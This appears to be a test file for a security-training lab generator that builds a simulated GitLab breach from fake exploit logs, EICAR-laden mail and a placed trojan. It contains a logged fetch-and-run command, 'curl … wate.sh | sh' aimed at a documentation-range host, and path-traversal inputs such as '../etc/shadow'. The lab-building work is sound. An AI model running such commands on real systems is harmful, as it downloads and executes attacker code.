import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import {
  aliceMbox,
  bobMaildir,
  containerFiles,
  EICAR,
  gitlabLogLines,
  LAB_SIGNATURE_TEXT,
  mailDate,
  nginxTime,
  rootfsEntries,
  wordpressLogLines,
} from "../../lab/lab-content.js";

const NOW = new Date("2025-11-25T02:41:13Z");

describe("lab content", () => {
  it("holds the EICAR test file byte-exact", () => {
    expect(Buffer.byteLength(EICAR, "latin1")).toBe(68);
    expect(createHash("sha256").update(EICAR, "latin1").digest("hex")).toBe(
      "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
    );
    expect(LAB_SIGNATURE_TEXT).toBe("BREACHKIT-LAB-SIGNATURE-7f3a9c1e");
  });

  it("formats log and mail dates", () => {
    expect(nginxTime(NOW)).toBe("25/Nov/2025:02:41:13 +0000");
    expect(mailDate(NOW)).toBe("Tue, 25 Nov 2025 02:41:13 +0000");
  });

  it("writes an mbox of three messages, the second with EICAR as a base64 attachment", () => {
    const mbox = aliceMbox(NOW);
    expect(mbox.match(/^From /gm)).toHaveLength(3);
    const b64 = /filename="invoice\.com"\n\n([A-Za-z0-9+/=\n]+)\n\n/.exec(mbox)?.[1];
    expect(b64).toBeDefined();
    expect(Buffer.from(b64 ?? "", "base64").toString("latin1")).toBe(EICAR);
    // Only the attachment carries it: the raw string is not in the mbox.
    expect(mbox).not.toContain(EICAR);
  });

  it("writes two Maildir messages, one with the raw EICAR string as its body", () => {
    const messages = bobMaildir(NOW);
    expect(messages).toHaveLength(2);
    expect(messages.filter((m) => m.text.includes(`\n\n${EICAR}\n`))).toHaveLength(1);
    for (const m of messages) expect(m.name).toMatch(/^\d+\.M\d+P\d+\.mail$/);
  });

  it("logs the CVE-2021-22205 exploit in gitlab and only normal visits in wordpress", () => {
    const gitlab = gitlabLogLines(NOW).join("\n");
    expect(gitlab).toContain(
      '203.0.113.77 - - [25/Nov/2025:02:30:54 +0000] "POST /uploads/user HTTP/1.1" 422',
    );
    expect(gitlab).toMatch(/DjVu annotation \(metadata \(Copyright .*qx\{curl /);
    expect(gitlab).toMatch(/curl -fsSL http:\/\/198\.51\.100\.66\/wate\.sh \| sh/);
    // The workhorse lines are JSON objects, as workhorse writes them.
    for (const line of gitlabLogLines(NOW).filter((l) => l.startsWith("{"))) {
      expect(() => JSON.parse(line)).not.toThrow();
    }
    const wordpress = wordpressLogLines(NOW).join("\n");
    expect(wordpress).not.toMatch(/uploads|curl|exiftool|wp-login|\.\.\//i);
    // Every client address is from a documentation range (RFC 5737).
    // (A version after "Chrome/" looks like an address: skip numbers that follow "<word>/".)
    const ips = `${gitlab}\n${wordpress}`.match(/(?<![A-Za-z]\/)\b\d{1,3}(\.\d{1,3}){3}\b/g) ?? [];
    expect(ips.length).toBeGreaterThan(10);
    for (const ip of ips) expect(ip).toMatch(/^(198\.51\.100|203\.0\.113)\./);
  });

  it("links applets to busybox without ever replacing busybox itself", () => {
    const busybox = Buffer.from("\x7fELF fake busybox");
    const entries = rootfsEntries(busybox, [
      "bin/busybox",
      "bin/sh",
      "usr/sbin/httpd",
      "usr/bin/[[",
      "bin/sh",
      "../etc/shadow",
      "usr/bin/a\nb",
      "usr/bin/\x1b[31mred",
      "opt/evil",
      "",
    ]);
    const byPath = new Map(entries.map((e) => [e.path, e]));
    expect(byPath.get("bin/busybox")).toEqual({
      type: "file",
      path: "bin/busybox",
      mode: 0o755,
      data: busybox,
    });
    const links = entries.filter((e) => e.type === "symlink").map((e) => e.path);
    expect(links).toEqual(["bin/sh", "usr/sbin/httpd", "usr/bin/[["]);
    expect(byPath.get("etc/passwd")?.type).toBe("file");
    expect(byPath.get("tmp")).toMatchObject({ type: "dir", mode: 0o1777 });
  });

  it("puts the trojan only into gitlab's files and the signatures only into mail's", () => {
    const wate = Buffer.from("wate");
    const paths = (role: "gitlab" | "wordpress" | "mail") =>
      containerFiles(role, NOW, { wate }).map((e) => e.path);
    expect(paths("gitlab")).toContain("tmp/wate");
    expect(paths("wordpress")).not.toContain("tmp/wate");
    expect(paths("mail")).not.toContain("tmp/wate");
    expect(paths("mail")).toEqual(
      expect.arrayContaining(["var/mail/alice", "srv/files/lab-signature.bin"]),
    );
    expect(() => containerFiles("gitlab", NOW)).toThrow(/wate/);
    const run = containerFiles("gitlab", NOW, { wate, trojanSeconds: 5000 }).find(
      (e) => e.path === "lab/run.sh",
    );
    expect(run?.type === "file" && Buffer.from(run.data).toString()).toContain("/tmp/wate 900 ");
  });
});
